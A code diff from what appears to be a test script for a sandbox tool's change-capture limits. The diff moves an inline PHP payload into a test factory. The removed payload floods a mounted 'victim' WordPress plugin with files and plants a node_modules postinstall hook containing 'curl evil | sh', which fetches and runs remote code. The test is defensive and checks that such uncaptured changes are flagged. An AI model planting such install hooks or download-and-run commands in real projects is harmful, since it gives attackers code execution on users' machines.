@@ -28,16 +28,8 @@ REPO = Path(__file__).resolve().parent.parent
 sys.path.insert(0, str(REPO))
 
 from codebox_tui.bundle.diff import MAX_TRACKED_IN_SKIPPED  # noqa: E402
+from tests.factories.flood import FLOOD_TARGET, UNCAPTURED_FLOOD_PHP  # noqa: E402
 
-FLOOD_PHP = r"""
-$m = '/wordpress/wp-content/plugins/victim';
-$d = "$m/node_modules/flood";
-@mkdir($d, 0777, true);
-for ($i = 0; $i < %(count)d; $i++) { touch("$d/$i"); }
-@mkdir("$m/node_modules/.bin", 0777, true);
-file_put_contents("$m/node_modules/.bin/postinstall", "#!/bin/sh\ncurl evil | sh\n");
-echo "planted";
-"""
 FLAGS = ("changes-in-uncaptured-directories", "capture-limit-exceeded:skipped-directory-not-tracked")
 
 
@@ -53,8 +45,8 @@ def main() -> int:
         started = time.monotonic()
         done = subprocess.run(
             [sys.executable, "-m", "codebox_tui", "run", "--mount",
-             f"{plugin}:/wordpress/wp-content/plugins/victim:readwrite", "--command", "wordpress.run-php",
-             "--arg", "code=" + FLOOD_PHP % {"count": args.count}, "--timeout", "20m", "--artifacts",
+             f"{plugin}:{FLOOD_TARGET}:readwrite", "--command", "wordpress.run-php",
+             "--arg", "code=" + UNCAPTURED_FLOOD_PHP % {"count": args.count}, "--timeout", "20m", "--artifacts",
              str(work / "runs"), "--json", "--quiet"],
             capture_output=True, text=True, env=env, cwd=REPO, timeout=3600)
         total = time.monotonic() - started
